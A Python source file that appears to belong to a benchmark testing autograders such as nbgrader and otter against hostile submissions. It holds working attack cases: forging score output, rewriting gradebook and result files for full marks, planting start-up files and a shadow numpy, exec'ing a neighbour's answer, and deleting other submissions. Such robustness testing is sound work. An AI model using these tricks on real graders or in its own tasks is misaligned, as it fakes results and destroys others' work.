"""Attacks on what is around the process: outputs, files, other submissions, start-up, its end,
time.

Stock tools run them with the rights of whoever runs this benchmark: an attack touches nothing
outside of ROOT, the case's own temporary folder, opens no connection, stays small, and ends by
itself within 20 s (the loop is stopped).
"""

from dataclasses import replace

from benchmarks.elsewhere.cases import Case
from benchmarks.elsewhere.inside import PATCH

# nbgrader: a value in the gradebook that is added to what the autograder finds. otter: the results
# that the kernel leaves for the grader, and those that the grader writes.
_REWRITE = """
import glob, json, pickle, sqlite3

def rewrite():
    for path in glob.glob("@ROOT@/gradebook.db"):
        book = sqlite3.connect(path, timeout=5)
        book.execute(
            "UPDATE grade SET extra_credit = "
            "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
            "WHERE notebook_id IN "
            "(SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment "
            "ON submitted_assignment.id = submitted_notebook.assignment_id "
            "WHERE student_id LIKE 'attacker%')"
        )
        book.commit()
        book.close()
    for path in glob.glob("@ROOT@/tmp/*.pkl"):
        with open(path, "rb") as file:
            data = file.read()
        if data:
            results = pickle.loads(data)
            for test in results.results.values():
                test.update_score(10)
            with open(path, "wb") as file:
                pickle.dump(results, file)
    for path in glob.glob("@ROOT@/results/attacker/*.json"):
        with open(path) as file:
            results = json.load(file)
        for test in results["tests"]:
            if "max_score" in test:
                test["score"] = test["max_score"]
        with open(path, "w") as file:
            json.dump(results, file)

def try_rewrite():
    try:
        rewrite()
    except Exception:
        pass
"""

_CASES = [
    Case(
        "forges outputs: a score as the cell's result",
        """
import os

calls = 0

def svm_loss_naive(W, X, y, reg):
    global calls
    calls += 1
    print("Total Score: 10.000 / 10.000 (100.000%)")
    try:
        get_ipython().displayhook(2.0 if calls == 1 else 4.0)
    except NameError:
        for descriptor in range(3, 10):
            try:
                os.write(descriptor, b'{"score": 10, "passed": true}')
            except OSError:
                pass
    return 0.0, np.zeros_like(W)
""",
    ),
    Case(
        "rewrites gradebook and results at once",
        _REWRITE
        + """
def svm_loss_naive(W, X, y, reg):
    try_rewrite()
    return 0.0, np.zeros_like(W)
""",
    ),
    Case(
        "rewrites them when the process ends (atexit)",
        _REWRITE
        + """
import atexit
atexit.register(try_rewrite)
""",
    ),
    Case(
        "rewrites them from a process left behind",
        f'''
import os, subprocess, sys
code = """{_REWRITE}
import time
for _ in range(100):
    time.sleep(0.2)
    try_rewrite()
"""
try:
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
except OSError:
    pass
''',
    ),
    Case(
        "hands in a numpy/ that patches the real one",
        files={
            "numpy/__init__.py": """
import os, sys
path, here = list(sys.path), os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path[:] = [folder for folder in path if os.path.abspath(folder) != here]
del sys.modules["numpy"]
import numpy
sys.path[:] = path
"""
            + PATCH
        },
    ),
    Case(
        "hands in start-up files (ipykernel_launcher.py, ...)",
        files={
            "ipykernel_launcher.py": (
                PATCH + "from ipykernel import kernelapp\nkernelapp.launch_new_instance()\n"
            ),
            "sitecustomize.py": PATCH,
            "usercustomize.py": PATCH,
            "conftest.py": PATCH,
        },
    ),
    Case("replaces the tests in its notebook by pass", edits_notebook=True),
    Case(
        "hands in its neighbour's answer",
        """
import glob, zipfile
for path in glob.glob("@ROOT@/submitted/neighbour*/*/cs231n_utils/linear_svm.py"):
    with open(path) as file:
        exec(file.read())
for path in glob.glob("@ROOT@/submitted/neighbour*.zip"):
    with zipfile.ZipFile(path) as archive:
        exec(archive.read("cs231n_utils/linear_svm.py"))
""",
    ),
    Case(
        "deletes the other submissions",
        """
import glob, os, shutil
for path in glob.glob("@ROOT@/submitted/*") + glob.glob("@ROOT@/autograded/*"):
    if "attacker" not in os.path.basename(path):
        shutil.rmtree(path, ignore_errors=True) if os.path.isdir(path) else os.remove(path)
""",
    ),
    Case(
        "os._exit(0)",
        """
import os

def svm_loss_naive(W, X, y, reg):
    os._exit(0)
""",
    ),
    Case(
        "sys.exit(0)",
        """
import sys

def svm_loss_naive(W, X, y, reg):
    sys.exit(0)
""",
    ),
    Case(
        "never ends",
        """
import time

def svm_loss_naive(W, X, y, reg):
    while True:
        time.sleep(0.1)  # spares the other cases the processor
""",
    ),
]

OUTSIDE = [replace(case, outside=True) for case in _CASES]
